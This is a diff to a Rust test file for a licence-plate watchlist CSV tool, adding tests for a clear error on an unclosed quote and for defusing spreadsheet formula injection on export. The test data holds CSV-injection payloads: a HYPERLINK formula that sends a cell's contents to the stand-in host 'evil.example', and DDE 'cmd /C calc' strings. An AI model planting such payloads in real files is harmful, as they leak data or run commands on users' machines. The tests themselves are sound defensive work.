@@ -150,6 +150,24 @@ fn malformed_records_are_rejected() {
 }
 
 #[test]
+fn an_unclosed_quote_is_named_not_reported_as_a_field_count() {
+    let text = format!(
+        "{HEADER}京A12345,stolen,hotlist,,\"forgot to close,,,\n沪B00001,stolen,hotlist,,,,,\n粤C00002,stolen,hotlist,,,,,\n"
+    );
+    match import(&text) {
+        Err(ImportError::Malformed { at, reason }) => {
+            assert_eq!(at, row(2));
+            assert!(
+                reason.contains("never closed") && reason.contains("from line 2"),
+                "{reason}"
+            );
+            assert!(!reason.contains("fields where"), "{reason}");
+        }
+        other => panic!("{other:?}"),
+    }
+}
+
+#[test]
 fn multi_line_fields_report_row_and_line() {
     let text = format!("{HEADER}京A12345,stolen,hotlist,,,,,\"two\nlines\"\n京A#,stolen,hotlist,,,,,\n");
     match import(&text) {
@@ -277,4 +295,99 @@ fn export_then_import_round_trips() {
     let again = read_csv(out.as_slice(), &ImportOptions::default()).expect("reread");
     assert_eq!(again, lists);
     assert!(String::from_utf8(out).expect("utf8").starts_with(HEADER));
+}
+
+/// Issue 16: an export opened in a spreadsheet must not run formulas from plates, list names,
+/// reasons or notes; importing the export gives the same lists back.
+#[test]
+fn export_defuses_spreadsheet_formulas_and_import_restores_them() {
+    use vigil_watchlist::{Plate, Watchlist, WatchlistEntry};
+    let name = ListName::parse("-suspects").expect("a list name may start with '-'");
+    let entry = |plate: &str, reason: &str, note: &str| {
+        let mut e = WatchlistEntry::new(
+            Plate::parse(plate).expect("plate"),
+            name.clone(),
+            ListKind::Hotlist,
+        );
+        e.reason = reason.into();
+        e.note = note.into();
+        e
+    };
+    let list = Watchlist::new(
+        name.clone(),
+        ListKind::Hotlist,
+        vec![
+            entry(
+                "京A12345",
+                "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")",
+                "+cmd|' /C calc'!A0",
+            ),
+            entry("-B22222", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1"),
+            entry("C33333", "\r=1", "'=already quoted by hand"),
+            entry("D44444", "'plain quote", "''+two quotes"),
+            entry("E55555", "ordinary, text", "-"),
+        ],
+    )
+    .expect("list");
+    let mut out = Vec::new();
+    write_csv(&mut out, [&list]).expect("write");
+
+    // What a spreadsheet sees: the raw cells, no Vigil-side unescaping.
+    let mut raw = csv::ReaderBuilder::new()
+        .has_headers(true)
+        .from_reader(out.as_slice());
+    let cells: Vec<Vec<String>> = raw
+        .records()
+        .map(|r| r.expect("record").iter().map(str::to_owned).collect())
+        .collect();
+    for cell in cells.iter().flatten() {
+        assert!(
+            !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+            "a spreadsheet would run {cell:?}"
+        );
+    }
+    assert_eq!(cells[0][4], "'=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")");
+    assert_eq!(cells[0][7], "'+cmd|' /C calc'!A0");
+    assert_eq!(
+        (cells[1][0].as_str(), cells[1][1].as_str()),
+        ("'-B22222", "'-suspects")
+    );
+    assert_eq!(cells[1][4], "'@SUM(1+1)*cmd|' /C calc'!A0");
+    assert_eq!(
+        cells[2][7], "''=already quoted by hand",
+        "a quote already there is kept"
+    );
+    assert_eq!(
+        cells[3][4], "'plain quote",
+        "a quote before plain text is no escape"
+    );
+    assert_eq!(cells[4][4], "ordinary, text");
+
+    let again = read_csv(out.as_slice(), &ImportOptions::default()).expect("the export imports");
+    assert_eq!(again, vec![list.clone()]);
+    let one = read_csv_list(
+        out.as_slice(),
+        &name,
+        ListKind::Hotlist,
+        &ImportOptions::default(),
+    )
+    .expect("replace from the export");
+    assert_eq!(one, list);
+
+    // A cell typed as '=x in a spreadsheet means =x, as it does there.
+    let typed = read_csv(
+        format!("{HEADER}'-F66666,'-suspects,hotlist,,'=1+1,,,'@x\n").as_bytes(),
+        &ImportOptions::default(),
+    )
+    .expect("valid");
+    let e = &typed[0].entries()[0];
+    assert_eq!(
+        (
+            e.plate.text(),
+            e.list.as_str(),
+            e.reason.as_str(),
+            e.note.as_str()
+        ),
+        ("-F66666", "-suspects", "=1+1", "@x")
+    );
 }
